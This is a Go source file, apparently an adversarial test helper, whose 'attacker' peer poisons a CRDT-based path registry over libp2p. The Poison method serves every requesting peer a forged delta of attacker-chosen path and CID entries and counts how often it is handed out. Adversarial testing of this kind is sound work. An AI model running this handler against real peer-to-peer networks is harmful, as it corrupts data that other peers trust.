package attacker

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"time"

	"github.com/ipfs/boxo/ipld/merkledag"
	"github.com/ipfs/go-cid"
	crdt "github.com/ipfs/go-ds-crdt/pb"
	"github.com/libp2p/go-libp2p/core/network"
	"google.golang.org/protobuf/encoding/protowire"
	"google.golang.org/protobuf/proto"
)

// Entry is an entry of the path map, with any size.
type Entry struct {
	Path string
	CID  cid.Cid
	Size uint64
}

// Poison makes it a registry whose history is one delta with these entries, which it hands out to
// everybody who asks: they count where it is trusted. It comes before Join. Did counts how often
// the delta was sent.
func (p *Peer) Poison(entries ...Entry) (*Tally, error) {
	if p.host == nil {
		return nil, ErrStranger
	}
	block, name, err := delta(p.ID().String(), entries)
	if err != nil {
		return nil, fmt.Errorf("poison: %w", err)
	}
	t := &Tally{}
	p.host.SetStreamHandler(pathsProtocol, func(s network.Stream) {
		t.tried.Add(1)
		defer t.add()()
		defer func() { _ = s.Reset() }()
		for r := bufio.NewReader(s); ; {
			_ = s.SetDeadline(time.Now().Add(time.Minute))
			if err := answerPaths(s, r, block, name, t); err != nil {
				return
			}
		}
	})
	return t, nil
}

// delta is a block of the history that follows nothing.
func delta(writer string, entries []Entry) (block []byte, name cid.Cid, err error) {
	d := &crdt.Delta{Priority: 1}
	for i, e := range entries {
		key := fmt.Sprintf("/f%s:%016x-%s", e.Path, i+1, writer)
		d.Elements = append(d.Elements, &crdt.Element{Key: key, Value: e.marshal()})
	}
	data, err := proto.Marshal(d)
	if err != nil {
		return nil, cid.Undef, err
	}
	node := merkledag.NodeWithData(data)
	if err := node.SetCidBuilder(merkledag.V1CidPrefix()); err != nil {
		return nil, cid.Undef, err
	}
	return node.RawData(), node.Cid(), nil
}

// marshal does what registries do: a format, and then fields.
func (e Entry) marshal() []byte {
	b := []byte{1}
	b = protowire.AppendTag(b, 1, protowire.BytesType)
	b = protowire.AppendBytes(b, e.CID.Bytes())
	b = protowire.AppendTag(b, 2, protowire.VarintType)
	b = protowire.AppendVarint(b, e.Size)
	b = protowire.AppendTag(b, 3, protowire.Fixed64Type)
	return protowire.AppendFixed64(b, uint64(time.Now().UnixNano()))
}

// answerPaths answers one request: for heads, or for deltas.
func answerPaths(s network.Stream, r *bufio.Reader, block []byte, name cid.Cid, t *Tally) error {
	frame, err := ReadFrame(r)
	if err != nil {
		return err
	}
	var req struct {
		Op string `json:"op"`
	}
	if err := json.Unmarshal(frame, &req); err != nil {
		return err
	}
	var answer any = map[string]any{"error": "it has nothing else"}
	switch req.Op {
	case "heads":
		answer = map[string]any{"heads": []cid.Cid{name}, "counter": 1}
	case "deltas", "get":
		if err := errors.Join(WriteFrame(s, block), WriteFrame(s, nil)); err != nil {
			return err
		}
		t.did.Add(1)
		answer = map[string]any{}
	}
	b, err := json.Marshal(answer)
	if err != nil {
		return err
	}
	return WriteFrame(s, b)
}
